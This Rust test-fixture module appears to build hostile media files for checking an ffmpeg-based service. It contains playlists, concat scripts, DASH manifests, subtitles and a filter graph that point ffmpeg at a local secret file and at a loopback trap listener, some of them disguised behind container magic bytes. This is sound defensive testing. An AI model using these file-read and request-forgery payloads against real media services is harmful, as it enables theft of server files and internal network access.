//! Media that is made to do harm: files that name other files or hosts, pictures that are far larger than
//! their bytes, tables without end. Each is made here, byte by byte or by the ffmpeg program, and those that
//! name something come with a way to show that they are not harmless by accident.

mod film;
mod pictures;
mod reference;
mod sound;
mod transport;

pub use film::{make, tiny_mp4, tiny_ts};
pub use pictures::{bomb, bomb_ts};
pub use reference::{apart, by_alias, by_url};
pub use sound::sounds;
pub use transport::{many_streams, odd_tables};

use std::{
    net::{SocketAddr, TcpListener},
    path::Path,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
};

/// What no answer, error, log or output may contain.
pub const SECRET: &str = "the-content-of-a-secret-file-e5c1";

/// A listener on the loopback that nobody should ever reach.
#[derive(Debug)]
pub struct Trap {
    /// Where it listens.
    pub address: SocketAddr,
    reached: Arc<AtomicUsize>,
}

impl Trap {
    /// Begins to listen where nobody else ever does, so that no client of another test comes by. Its thread ends
    /// with the process.
    pub fn set() -> Self {
        Self::on(TcpListener::bind("127.66.0.1:0").expect("a free port"))
    }

    /// The same at all addresses of this machine.
    pub fn everywhere() -> Self {
        let listener = TcpListener::bind("[::]:0").or_else(|_| TcpListener::bind("0.0.0.0:0"));
        Self::on(listener.expect("a free port"))
    }

    fn on(listener: TcpListener) -> Self {
        let address = listener.local_addr().expect("an address");
        let reached = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&reached);
        std::thread::spawn(move || {
            for connection in listener.incoming() {
                drop(connection);
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { address, reached }
    }

    /// Connections so far.
    pub fn reached(&self) -> usize {
        self.reached.load(Ordering::SeqCst)
    }

    /// Ends when it was reached: for showing that it can be.
    pub fn wait(&self) {
        while self.reached() == 0 {
            std::thread::yield_now();
        }
    }
}

/// A file and what it is.
#[derive(Debug, Clone)]
pub struct Hostile {
    /// For messages.
    pub name: &'static str,
    /// The file.
    pub data: Vec<u8>,
}

impl Hostile {
    /// With this name.
    pub fn new(name: &'static str, data: impl Into<Vec<u8>>) -> Self {
        Self { name, data: data.into() }
    }
}

/// Playlists, lists and descriptions in words that lead ffmpeg to `secret` (an absolute path) and to `trap`
/// when it may choose what they are.
pub fn scripts(secret: &Path, trap: SocketAddr) -> Vec<Hostile> {
    let secret = secret.display();
    let playlist = |lines: &str| {
        format!("#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:2\n{lines}#EXT-X-ENDLIST\n")
    };
    let segment = |of: &str| format!("#EXTINF:2,\n{of}\n");
    vec![
        Hostile::new("a playlist of a file", playlist(&segment(&format!("file://{secret}")))),
        Hostile::new("a playlist of a path", playlist(&segment(&secret.to_string()))),
        Hostile::new("a playlist of a host", playlist(&segment(&format!("http://{trap}/a.ts")))),
        Hostile::new(
            "a playlist with a key elsewhere",
            playlist(&format!(
                "#EXT-X-KEY:METHOD=AES-128,URI=\"http://{trap}/key\"\n{}",
                segment(&format!("file://{secret}"))
            )),
        ),
        Hostile::new(
            "a playlist with a beginning elsewhere",
            playlist(&format!("#EXT-X-MAP:URI=\"file://{secret}\"\n{}", segment("input"))),
        ),
        Hostile::new(
            "a playlist that joins protocols",
            playlist(&segment(&format!("concat:http://{trap}/?|file://{secret}"))),
        ),
        Hostile::new(
            "a master playlist",
            format!("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{trap}/a.m3u8\n"),
        ),
        Hostile::new("a concat script", format!("ffconcat version 1.0\nfile '{secret}'\n")),
        Hostile::new(
            "a concat script of a host",
            format!("ffconcat version 1.0\nfile 'http://{trap}/a.ts'\n"),
        ),
        Hostile::new(
            "a session description",
            format!(
                "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n\
                 a=control:rtsp://{trap}/\nm=video {} RTP/AVP 33\n",
                trap.port()
            ),
        ),
        Hostile::new(
            "a DASH manifest",
            format!(
                "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
                 mediaPresentationDuration=\"PT2S\" profiles=\"urn:mpeg:dash:profile:isoff-main:2011\">\
                 <BaseURL>http://{trap}/</BaseURL><Period><AdaptationSet mimeType=\"video/mp4\">\
                 <Representation id=\"1\" bandwidth=\"1\"><BaseURL>file://{secret}</BaseURL>\
                 <SegmentBase indexRange=\"0-9\"/></Representation></AdaptationSet></Period></MPD>\n"
            ),
        ),
        Hostile::new(
            "a smooth streaming list",
            format!("<asx version=\"3\"><entry><ref href=\"http://{trap}/a\"/></entry></asx>\n"),
        ),
        Hostile::new(
            "subtitles",
            format!(
                "1\n00:00:00,000 --> 00:00:02,000\n{{\\fn file://{secret}}}<img src=\"http://{trap}/\">\n"
            ),
        ),
        Hostile::new(
            "styled subtitles",
            format!(
                "[Script Info]\nScriptType: v4.00+\nVideo File: {secret}\n[Events]\nDialogue: 0,0:00:00.00,0:00:02.00,,,0,0,0,,x\n"
            ),
        ),
        Hostile::new(
            "an index of picture subtitles",
            format!(
                "# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0 {secret}\n"
            ),
        ),
        Hostile::new(
            "web subtitles",
            format!("WEBVTT\n\n00:00.000 --> 00:02.000\nfile://{secret}\n"),
        ),
        Hostile::new("a filter graph", format!("movie={secret}[out0]\n")),
        Hostile::new(
            "a film with a playlist for subtitles",
            gab2(&playlist(&segment(&format!("file://{secret}")))),
        ),
    ]
}

/// The same words behind what the first bytes of accepted containers look like.
pub fn disguised(scripts: &[Hostile]) -> Vec<Hostile> {
    let mut files = Vec::new();
    for script in scripts {
        // A sync byte where each packet of a transport stream begins, the words in between.
        let mut packets = Vec::new();
        for words in script.data.chunks(186).cycle().take(64) {
            packets.extend([b'G', b'\n']);
            packets.extend(words);
            packets.resize(packets.len().next_multiple_of(188), b'\n');
        }
        files.push(Hostile::new(script.name, packets));
        // An empty box before them.
        let mut boxes = b"\0\0\0\x08free".to_vec();
        boxes.extend(&script.data);
        files.push(Hostile::new(script.name, boxes));
    }
    files
}

/// An AVI file whose subtitle stream holds a file of its own.
fn gab2(inner: &str) -> Vec<u8> {
    let chunk = |kind: &[u8; 4], body: &[u8]| {
        let mut chunk = kind.to_vec();
        chunk.extend(u32::try_from(body.len()).expect("small").to_le_bytes());
        chunk.extend(body);
        chunk.resize(chunk.len().next_multiple_of(2), 0);
        chunk
    };
    let list = |kind: &[u8; 4], body: &[u8]| chunk(b"LIST", &[&kind[..], body].concat());
    let mut header = vec![0; 56];
    header[24] = 1;
    let mut stream = b"txts".to_vec();
    stream.resize(56, 0);
    (stream[20], stream[24], stream[32]) = (1, 1, 1);
    let streams = list(b"strl", &[chunk(b"strh", &stream), chunk(b"strf", &[])].concat());
    let headers = list(b"hdrl", &[chunk(b"avih", &header), streams].concat());
    let mut subtitle = b"GAB2\0\x02\0".to_vec();
    subtitle.extend(2u32.to_le_bytes());
    subtitle.extend([0, 0, 4, 0]);
    subtitle.extend(u32::try_from(inner.len()).expect("small").to_le_bytes());
    subtitle.extend(inner.as_bytes());
    let movie = list(b"movi", &chunk(b"00tx", &subtitle));
    chunk(b"RIFF", &[&b"AVI "[..], &headers, &movie].concat())
}

/// Numbers that look like chance and are the same in every run.
#[derive(Debug, Clone, Copy)]
pub struct Seeded(pub u64);

impl Seeded {
    /// The next one (Vigna's splitmix64).
    pub fn draw(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// One below `end`.
    pub fn below(&mut self, end: usize) -> usize {
        let end = u64::try_from(end.max(1)).expect("64 bits");
        usize::try_from(self.draw() % end).expect("below an usize")
    }

    /// `data` with some bits flipped, or cut, or with a part of it twice.
    pub fn damaged(&mut self, data: &[u8]) -> Vec<u8> {
        let mut data = data.to_vec();
        match self.below(4) {
            0 => data.truncate(self.below(data.len())),
            1 => {
                let (from, to) = (self.below(data.len()), self.below(data.len()));
                let part = data[from.min(to)..from.max(to)].to_vec();
                data.splice(from..from, part);
            }
            _ => {
                for _ in 0..=self.below(64) {
                    let at = self.below(data.len());
                    data[at] ^= 1 << self.below(8);
                }
            }
        }
        data
    }
}
